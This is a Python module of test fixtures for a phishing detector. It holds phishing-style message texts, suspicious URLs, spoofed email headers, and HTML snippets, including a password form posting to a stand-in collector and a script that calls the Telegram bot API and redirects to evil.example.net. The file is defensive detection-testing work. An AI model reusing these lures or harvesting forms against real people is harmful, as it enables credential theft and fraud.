"""Overlay rows: the synthetic tables hold no phishing, so snippets that fire rules, and near misses, are laid over
them by id modulo.  The same VALUES text serves Spark and other SQL engines."""

from __future__ import annotations

TEXTS = (
    "Your mailbox will be suspended within 24 hours unless you verify your identity today.",
    "The museum opens in 3 hours and tickets are valid for 14 days.",
    "Unusual login attempt detected, your card will be blocked. Click here to confirm your account.",
    "Thanks for lunch, see you on Monday with the team and the new plans for the garden fence.",
    "Congratulations! You have won the lottery, claim your prize now!!!! Call 9876543210 today",
    "Please pay the processing fee to release the parcel: http://parcel-fee.top/pay?email=me@x.org",
    "Your code is 482913. Do not share it with anyone.",
    "Kindly share your OTP and card number so I can complete the refund via wa.me/15550001111",
    "Are you at your desk? I need your help with a wire payment, keep this confidential.",
    "v e r i f y your p a s s w o r d at hxxp://login-check[.]xyz/secure",
    "MEETING MOVED TO ROOM FOUR PLEASE BRING YOUR OWN LAPTOP AND CHARGER THANK YOU",
    "Install anydesk and call our support helpline, your computer is infected with a virus",
    "Earn 500 per day, work from home, daily payout, contact on telegram for registration fee details",
    "Dear customer, your subscription expired. Renew now at www.renew.example.com or it will be terminated",
    "Forward this message to 10 friends and receive a free gift card",
    "Unsubscribe from this newsletter or manage your email preferences in your browser.",
    "My dear, I am stranded at the airport and need your help, send money to my account",
    "Track it here: your package is held at customs, confirm your delivery address",
    "Income tax department notice: update your PAN card, penalty of court action follows",
    "Write to bob.smith@example.org or call +44 20 7946 0958 for the minutes of the meeting",
    "Do not tell anyone in finance, skip the approval process and keep your verif1ed acc0unt ready",
    "We noticed a sign-in from a new device in a new location. If this wasn't you, review this activity.",
    "Your \u0430ccount at P\u0430ypal is fine, ver\u200bify nothing",
    "Links: https://a.example.org/1 https://b.example.org/2, www.c.example.net/3 and d-site.example/4; see https://e.example.org/?q=(5).",
    "Lost my wallet, I am in a meeting, can't talk right now, so please handle this discreetly",
)
URLS = (
    "http://paypal-secure-login.tk/verify/account.html?email=a@b.c", "https://www.google.com/search?q=1", "https://bit.ly/3xYz", "http://192.168.10.5/login", "https://user:pw@host.example.net/a",
    "https://a.b.c.d.example.org/x", "http://xn--pple-43d.com/", "https://gooogle.com/", "https://site.example.com:8443/a/b", "https://docs.python.org/3/library/urllib.html", "ftp://files.example.org/setup.exe",
    "https://example.com/out?url=https%3A%2F%2Fevil.example.net%2Fx&id=7", "https://my-bank-account-update.example.co.uk/a%20b%20c%20d%20e%20f%20g", "https://netflix.com.verify-user.xyz/", "mailto:someone@example.org", "https://shop.blogspot.com/2024/05/sale.html",
    "https://averyveryverylongdomainname2024.example/", "https://cdn123456.example.org/a%2520b?x=" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0123456789ab", "https://www.example.org/" + "long/" * 30, "http://bad host.example/x", "http://[::1]/x",
)
PAGES = (
    "<form action='http://collect.example.net/p' method=post><input type=password name=pwd><input name=user></form>",
    "<form><input type='password' name='pin'><input type=hidden name=email value=x></form><p>Sign in to continue</p>",
    "<p>About us and privacy policy. Contact us at any time.</p>",
    "<iframe src='https://other.example.org/f' style='display:none'></iframe><a href='#'>a</a><a href='#'>b</a>",
    "<script>eval(atob('x'));eval(unescape('%41'));document.addEventListener('contextmenu',function(e){e.preventDefault()})</script>",
    "<p>Your account has been locked. Enter your OTP below.</p><img src='https://www.paypal.com/logo.png'>",
    "<p>Google Drive and Gmail: sign in</p><form action='https://formspree.io/f/x' method=GET><input type=password name=pass><input name=u></form>",
    "<form action='javascript:go()'><input type=password name=pwd><input type=hidden name=chat_id></form>" + "<a href='#'>x</a><a href='javascript:void(0)'>y</a>" * 8,
    "<script>document.onpaste=function(e){e.preventDefault()};fetch('https://api.telegram.org/bot1/sendMessage?chat_id=2');window.location='https://evil.example.net/x'</script><input type=password name=p>",
    "<iframe src='https://frames.elsewhere.net/login' width=600></iframe><iframe width=0 src='/pixel'></iframe><input type=password name=q>",
    "<p>Customer care and terms of use. OTP sent to your mobile.</p><input type=password id=pin>",
    "<script>var a='\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48\\x49\\x4a\\x4b\\x4c'</script><form action='/login'><input name='cardno'><input name=v></form><p>Username</p>",
)
MAILS = (
    "From: PayPal Service <service@paypal-help.xyz>\nReply-To: pay@else.example.org\nSubject: Re: your account\nAuthentication-Results: mx; spf=fail; dkim=none; dmarc=fail\n\n",
    "From: Ann Lee <ann@example.org>\nSubject: minutes\n\n",
    "From: CEO Office <boss@gmail.com>\nTo: undisclosed-recipients:;\nX-Mailer: PHPMailer 6\nSubject: urgent\n\n",
    "From: news@mailinator.com\nReturn-Path: <bounce@lists.example.net>\nSubject: Fwd: offer\nReferences: <1@x>\n\n",
    "From: Google <no-reply@google.com>\nAuthentication-Results: mx; spf=pass; dkim=pass\nSubject: notice\n folded line\n\n",
    "From: \"PayPal Team\" <paypal.team@yahoo.com>\nReply-To: paypal.team@yahoo.com\nAuthentication-Results: mx; spf=softfail; dkim=pass; dmarc=none\nSubject: FWD: refund\nIn-Reply-To: <2@y>\n\n",
    "From: docs@python.org\nTo: Undisclosed recipients\nSubject: release\nX-Mailer: MassMailer\n\n",
    "From: Payroll Office <pay@gooogle.com>\nReturn-Path: <pay@gooogle.com>\nAuthentication-Results: mx; spf=none; dkim=none\nSubject: salary\n\n",
    "Subject: no sender at all\nTo: someone@example.org\n\n",
)


def values(rows: tuple[str, ...], column: str) -> str:
    """A relation (k, column) as SQL text."""
    return "(VALUES " + ", ".join(f"({i}, {literal(r)})" for i, r in enumerate(rows)) + f") AS ov(k, {column})"


def literal(s: str) -> str:
    """A string as SQL text that Spark and ANSI engines read alike: line feeds as chr(10), quotes doubled."""
    parts = ["'" + p.replace("'", "''") + "'" for p in s.split("\n")]
    return parts[0] if len(parts) == 1 else "(" + " || chr(10) || ".join(parts) + ")"
